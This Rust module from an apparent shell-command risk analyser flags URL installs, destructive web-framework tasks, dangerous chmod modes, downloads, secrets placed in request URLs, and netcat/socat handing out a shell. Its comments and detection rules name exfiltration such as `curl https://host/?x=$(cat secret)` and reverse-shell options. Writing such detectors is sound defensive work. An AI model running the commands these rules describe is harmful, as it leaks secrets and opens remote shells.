//! Content from elsewhere: downloads, installs, tasks of web frameworks, sockets.

use crate::calls::args::{is_single_unknown, is_unknown_word, may_be_option, parse_args};
use crate::calls::spec_eval;
use crate::chars::{UNKNOWN, has_unknown, show, source};
use crate::effect::{Certainty, EffectKind, RiskLevel, Span};
use crate::interpreter::engine::{Engine, Stream};
use crate::interpreter::expand::Arg;
use crate::interpreter::hosts::percent_decode;

/// Adds an effect for packages from a URL instead of the registry.
pub(super) fn install_from_url(cx: &mut Engine<'_>, name: &str, rest: &[Arg]) {
    let node = matches!(name, "npm" | "yarn" | "pnpm" | "npx" | "bun" | "bunx");
    let installs = matches!(name, "npx" | "uvx" | "bunx")
        || rest.iter().any(|a| {
            matches!(
                a.text.as_str(),
                "install" | "i" | "add" | "dlx" | "exec" | "run" | "x"
            )
        });
    if !installs {
        return;
    }
    let listed = rest.windows(2).find_map(|pair| match pair {
        [o, list] if matches!(o.text.as_str(), "-r" | "--requirement" | "-e") => Some(list),
        _ => None,
    });
    if let Some(list) = listed.filter(|list| is_unknown_word(list)) {
        cx.dynamic(list.span, "a list of packages that isn't known");
    }
    let mut operands = 0usize;
    for (i, a) in rest.iter().enumerate() {
        let t = a.text.as_str();
        let after_flag = i
            .checked_sub(1)
            .and_then(|k| rest.get(k))
            .is_some_and(|p| p.text.starts_with('-') && p.text.len() > 2 && p.text != "--save-dev");
        // The value of an option, unless it names a package.
        let package = ["git+", "github:", "gitlab:", "git@"];
        let package = package.iter().any(|prefix| t.starts_with(prefix));
        let switch = i.checked_sub(1).and_then(|k| rest.get(k)).is_some_and(|p| {
            matches!(
                p.text.as_str(),
                "--dev" | "--bun" | "--save" | "--save-exact" | "--force" | "--yes" | "--global"
            )
        });
        if t.starts_with('-') || after_flag && !package && !switch {
            continue;
        }
        operands += 1;
        if matches!(name, "npx" | "uvx" | "bunx") && operands > 1 {
            return;
        }
        let short = node
            && !matches!(t.as_bytes().first(), Some(b'@' | b'.' | b'/' | b'~'))
            && t.matches('/').count() == 1
            && !t.contains(':')
            && !rest.iter().any(|a| a.text == "run" || a.text == "exec");
        let from_url = t.contains("://")
            || t.starts_with("git+")
            || t.starts_with("github:")
            || t.starts_with("gitlab:")
            || t.starts_with("git@");
        if from_url || short {
            cx.emit_raw(
                EffectKind::Install,
                Some(show(t)),
                Certainty::Certain,
                a.span,
                RiskLevel::High,
                "installs from an address, not from the registry",
            );
        }
    }
}

/// Adds an effect for the program of a package that isn't known. It is downloaded and run, also if
/// it is only asked for its help.
pub(super) fn runs_package(cx: &mut Engine<'_>, name: &str, rest: &[Arg]) {
    let ctx = cx.ctx();
    let Some(spec) = cx.table_name(name).and_then(|name| ctx.table.get(&name)) else {
        return;
    };
    let (call, _) = parse_args(spec, rest);
    let runner = match call.sub.first() {
        None => matches!(name, "npx" | "bunx" | "pnpx" | "uvx"),
        Some(verb) => matches!(verb.as_str(), "dlx" | "exec" | "x" | "run" | "tool"),
    };
    let local = [
        "--no-install",
        "--no",
        "--offline",
        "-c",
        "--call",
        "--from",
    ];
    let package = call
        .operands
        .first()
        .filter(|a| runner && !has_unknown(&a.text) && !local.iter().any(|flag| call.has(flag)));
    let asks = |a: &Arg| matches!(a.text.as_str(), "--help" | "--version" | "-h" | "-V");
    let (Some(package), [_, question]) = (package, call.operands.as_slice()) else {
        return;
    };
    let verb = call.sub.first().map(String::as_str);
    let fetches = match name {
        "npx" | "bunx" | "pnpx" | "uvx" => true,
        "npm" => matches!(verb, Some("exec" | "x")),
        "pipx" => verb == Some("run"),
        "bun" => verb == Some("x"),
        _ => matches!(verb, Some("dlx" | "tool")),
    };
    if fetches && asks(question) && cx.table_name(&package.text).is_none() {
        cx.emit_unknown(
            Some(show(&package.text)),
            package.span,
            "a package that isn't known",
        );
    }
}

/// Adds effects of web-framework tasks that discard data.
pub(crate) fn framework(cx: &mut Engine<'_>, script: &Arg, words: &[Arg]) {
    let name = script.text.rsplit('/').next().unwrap_or_default();
    if !matches!(
        name,
        "manage.py"
            | "artisan"
            | "rails"
            | "rake"
            | "console"
            | "gradlew"
            | "mvnw"
            | "magento"
            | "yii"
            | "cake"
            | "drush"
            | "wp"
            | "typo3"
            | "flask"
    ) {
        return;
    }
    // The wrappers of Gradle and Maven take the options of the tools.
    let ctx = cx.ctx();
    if let Some(spec) = ctx.table.get(name).filter(|_| name.ends_with('w')) {
        let elsewhere = |w: &Arg| {
            let value = w.text.split_once('=').map_or(&*w.text, |(_, value)| value);
            value.starts_with(['/', '~', UNKNOWN])
        };
        if words.iter().any(elsewhere) {
            spec_eval::apply(
                cx,
                name,
                spec,
                words,
                &Stream::default(),
                false,
                script.span,
            );
        }
    }
    for (at, w) in words.iter().enumerate() {
        if is_unknown_word(w) || at == 0 && is_single_unknown(w) {
            cx.dynamic(w.span, "a task that isn't known");
        }
        let t = w.text.as_str();
        let bad = matches!(
            t,
            "flush"
                | "reset_db"
                | "sqlflush_run"
                | "dbshell"
                | "shell"
                | "tinker"
                | "db:wipe"
                | "deploy"
                | "release:perform"
        ) && !(t == "shell" && name != "manage.py")
            || t.ends_with(":fresh")
            || t.ends_with(":reset")
            || t.ends_with(":drop")
            || t.ends_with(":wipe")
            || t.ends_with(":refresh")
            || t.ends_with(":purge")
            || t.ends_with(":rollback")
            || crate::calls::unlisted_options::is_action(t)
            || t.contains("javaagent")
            || name == "manage.py" && t == "zero"
            || matches!(
                (name, t),
                (
                    "rails",
                    "runner" | "r" | "console" | "c" | "dbconsole" | "db"
                )
            )
            || (matches!(name, "gradlew" | "mvnw")
                && (t.starts_with("publish") || t == "deploy" || t == "uploadArchives"));
        if bad && !t.starts_with("publishToMavenLocal") {
            cx.emit_raw(
                EffectKind::Delete,
                Some(show(t)),
                Certainty::Certain,
                w.span,
                RiskLevel::High,
                "a task that throws data away or publishes",
            );
        }
    }
}

/// Adds an effect for modes that grant rights.
pub(super) fn chmod(cx: &mut Engine<'_>, rest: &[Arg]) {
    let Some(mode) = rest.iter().find(|a| {
        !a.text.starts_with('-')
            || a.text.len() > 1
                && a.text.chars().skip(1).all(|c| "rwxXst".contains(c))
                && !matches!(a.text.as_str(), "-R")
    }) else {
        return;
    };
    let t = mode.text.as_str();
    let octal = t.bytes().all(|c| (b'0'..=b'7').contains(&c)) && t.len() >= 3;
    let last = t.bytes().last().unwrap_or(b'0');
    let world = octal && matches!(last, b'2' | b'3' | b'6' | b'7');
    let special = octal && t.len() == 4 && !t.starts_with('0') && !t.starts_with('1');
    let zero = octal && t.bytes().all(|c| c == b'0');
    let symbolic = !octal
        && t.split(',').any(|p| {
            let (who, op) = p.split_once(['+', '=']).unwrap_or(("", ""));
            op.contains('s') || (op.contains('w') && (who.contains('o') || who.contains('a')))
        });
    if has_unknown(t) || world || special || zero || symbolic {
        let why = if special || symbolic && t.contains('s') {
            "makes a program run with its owner's rights"
        } else {
            "lets anyone write, or no one read"
        };
        cx.emit_raw(
            EffectKind::Privilege,
            Some(show(t)),
            Certainty::Certain,
            mode.span,
            RiskLevel::High,
            why,
        );
    }
}

/// Adds the effects of a download: the files named after its URLs are written. All written
/// files are recorded, so that running them is detected.
pub(super) fn download(cx: &mut Engine<'_>, name: &str, rest: &[Arg]) {
    let wget = name == "wget";
    let is_short = |t: &str| t.starts_with('-') && !t.starts_with("--");
    let (long, letter) = if wget {
        ("--output-document", 'O')
    } else {
        ("--output", 'o')
    };
    let mut names: Vec<String> = Vec::new();
    let mut explicit = false;
    for (i, a) in rest.iter().enumerate() {
        let t = a.text.as_str();
        let wants = t == long || is_short(t) && t.ends_with(letter);
        if wants && let Some(f) = rest.get(i + 1) {
            names.push(f.text.clone());
            explicit = true;
        }
        for p in ["--output=", "--output-document=", "-o", "-O"] {
            if let Some(f) = t.strip_prefix(p).filter(|f| !f.is_empty()) {
                names.push(f.to_owned());
                // With `-o` wget only writes its messages there.
                explicit |= wget && matches!(p, "-O" | "--output-document=");
            }
        }
        // `-qO-`: after switches without a value.
        let cluster = t
            .strip_prefix('-')
            .and_then(|t| t.split_once('O'))
            .filter(|(before, f)| !before.is_empty() && !f.is_empty());
        if let Some((before, file)) = cluster.filter(|_| wget)
            && before.bytes().all(|b| b"qvncNSdbrkmpEHLx46".contains(&b))
        {
            names.push(file.to_owned());
            explicit = true;
        }
    }
    let named = |t: &str| {
        matches!(t, "--remote-name" | "--remote-name-all") || is_short(t) && t.contains('O')
    };
    let remote = if wget {
        !explicit
    } else {
        rest.iter().any(|a| named(&a.text))
    };
    if remote {
        let (long, letter) = if wget {
            ("--directory-prefix", "-P")
        } else {
            ("--output-dir", "--output-dir")
        };
        let folder = rest.iter().enumerate().find_map(|(i, a)| {
            let t = a.text.as_str();
            match t.strip_prefix(long).and_then(|t| t.strip_prefix('=')) {
                Some(folder) => Some(folder),
                None if t == long || t == letter => rest.get(i + 1).map(|f| f.text.as_str()),
                None => t.strip_prefix("-P").filter(|_| wget),
            }
        });
        for a in rest
            .iter()
            .filter(|a| a.text.contains("://") || !a.text.starts_with('-'))
        {
            let plain = a
                .text
                .split(['?', '#'])
                .next()
                .unwrap_or_default()
                .trim_end_matches('/');
            names.extend(plain.rsplit('/').next().map(str::to_owned));
            let Some(file) = named_after(&source(&a.text), wget) else {
                continue;
            };
            let file = folder.map_or_else(
                || file.clone(),
                |folder| format!("{}/{file}", folder.trim_end_matches('/')),
            );
            cx.path_write(&Arg::literal(file.clone(), a.span));
            names.push(file);
        }
    }
    for n in names {
        if let Some(p) = cx.resolve(&n)
            && n != "-"
            && !n.is_empty()
        {
            cx.history_mut().write(p, None);
        }
    }
}

/// Adds an effect for unknown data in a request, as in `curl https://host/?x=$(cat secret)`.
pub(super) fn secret_in_url(cx: &mut Engine<'_>, rest: &[Arg]) {
    if let Some(a) = rest.iter().find(|a| a.computed && !a.text.contains("://")) {
        cx.emit_raw(
            EffectKind::Network,
            None,
            Certainty::Possible,
            a.span,
            RiskLevel::High,
            "sends the output of a command with the request",
        );
    }
    let leaks = rest.iter().any(|a| {
        a.text.contains("://")
            && a.text
                .split_once("://")
                .is_some_and(|(_, r)| r.contains(UNKNOWN))
    });
    if leaks
        && cx.has_effect(EffectKind::Credential)
        && let Some(a) = rest.first()
    {
        cx.emit_raw(
            EffectKind::Network,
            None,
            Certainty::Possible,
            a.span,
            RiskLevel::High,
            "sends a secret in the URL",
        );
    }
}

pub(super) fn netcat(cx: &mut Engine<'_>, name: &str, rest: &[Arg], stdin: &Stream, span: Span) {
    let short = |c: char| {
        rest.iter()
            .any(|a| a.text.starts_with('-') && !a.text.starts_with("--") && a.text.contains(c))
    };
    let shell = rest.windows(2).find(|pair| {
        matches!(pair, [o, program] if o.text.starts_with('-')
        && !o.text.starts_with("--")
        && o.text.ends_with('c')
        && matches!(
            program.text.rsplit('/').next(),
            Some("sh" | "bash" | "zsh" | "dash" | "ksh" | "ash" | "fish" | "cmd.exe")
        ))
    });
    if shell.is_some() {
        cx.dynamic(span, "gives the other end of the connection a shell");
    }
    if let Some(unknown_word) = rest.iter().find(|a| may_be_option(a)) {
        cx.dynamic(
            unknown_word.span,
            "a word that isn't known and may be an option",
        );
    }
    let executes = rest.iter().any(|a| {
        matches!(a.text.as_str(), "--exec" | "--sh-exec" | "--lua-exec")
            || a.text.starts_with("--exec=")
            || a.text.starts_with("--sh-exec=")
    }) || name != "socat" && name != "telnet" && (short('e') || short('c'));
    let socat = name == "socat"
        && rest.iter().any(|a| {
            let u = a.text.to_ascii_uppercase();
            u.starts_with("EXEC:") || u.starts_with("SYSTEM:") || u.starts_with("SHELL:")
        });
    if executes || socat {
        cx.dynamic(span, "gives the other end of the connection a program");
    } else if short('z') && !stdin.present {
        // Only tests whether a port is open.
    } else if stdin.present && (!stdin.inline && stdin.text.is_none()) {
        cx.emit_raw(
            EffectKind::Network,
            None,
            Certainty::Certain,
            span,
            RiskLevel::High,
            "sends its input over the network",
        );
    } else if short('l') {
        cx.emit_raw(
            EffectKind::Network,
            None,
            Certainty::Certain,
            span,
            RiskLevel::High,
            "listens for connections",
        );
    }
}

/// Returns the file that a download from a URL is saved to: the last part of its path. `None` if
/// the text isn't a URL, as far as that can be determined: an option's value that looks like a URL
/// counts as one.
fn named_after(address: &str, wget: bool) -> Option<String> {
    let rest = match address.split_once("://") {
        Some((_, rest)) => rest,
        // Without a scheme: `host.example/file`.
        None => address
            .split_once('/')
            .filter(|(host, _)| {
                host.contains('.') && !matches!(*host, "." | "..") || has_unknown(host)
            })
            .map(|_| address)?,
    };
    // wget keeps the query in the name.
    let path = rest
        .split(if wget { &['#'][..] } else { &['?', '#'] })
        .next()
        .unwrap_or_default();
    let path = path.split_once('/').map_or("", |(_, path)| path);
    let (before, query) = path
        .split_once('?')
        .map_or((path, None), |(path, query)| (path, Some(query)));
    let last = before.rsplit('/').next().unwrap_or_default();
    let last = if wget && last.is_empty() {
        "index.html"
    } else {
        last
    };
    let last = if wget {
        percent_decode(last)
    } else {
        last.to_owned()
    };
    (!last.is_empty())
        .then(|| query.map_or_else(|| last.clone(), |query| format!("{last}?{query}")))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Context, Table, analyse};

    /// The paths that a command writes.
    fn written(line: &str) -> Vec<String> {
        let table = Table::builtin();
        let analysis = analyse(line, &Context::new(&table));
        let mut all: Vec<String> = analysis
            .effects
            .into_iter()
            .filter(|e| e.kind == EffectKind::Write)
            .filter_map(|e| e.target)
            .collect();
        all.sort();
        all.retain(|path| path != ".");
        all
    }

    #[test]
    fn a_download_writes_the_file_that_its_address_names() {
        for (line, file) in [
            ("curl -O https://x.example/a/package.json", "package.json"),
            (
                "curl -sSLO https://x.example/package.json?v=1#top",
                "package.json",
            ),
            ("curl --remote-name x.example/package.json", "package.json"),
            ("curl -O \"$HOST/package.json\"", "package.json"),
            (
                "curl -O --url=https://x.example/package.json",
                "package.json",
            ),
            (
                "curl --remote-name-all https://x.example/package.json",
                "package.json",
            ),
            (
                "curl --output-dir web -O https://x.example/package.json",
                "web/package.json",
            ),
            ("wget https://x.example/package.json", "package.json"),
            ("wget https://x.example/package%2ejson", "package.json"),
            (
                "wget https://x.example/a?b=package.json",
                "a?b=package.json",
            ),
            ("wget https://x.example", "index.html"),
            ("wget -olog https://x.example/package.json", "package.json"),
            (
                "wget -P web/ https://x.example/package.json",
                "web/package.json",
            ),
            (
                "wget -q --directory-prefix=web https://x.example/package.json",
                "web/package.json",
            ),
        ] {
            assert!(
                written(line).contains(&file.to_owned()),
                "{line}: {:?}",
                written(line)
            );
        }
        for line in [
            "curl https://x.example/package.json",
            "wget -O - https://x.example/package.json",
            "wget -qO- https://x.example/package.json",
            "curl -O https://x.example",
        ] {
            assert_eq!(written(line), [""; 0], "{line}");
        }
    }
}
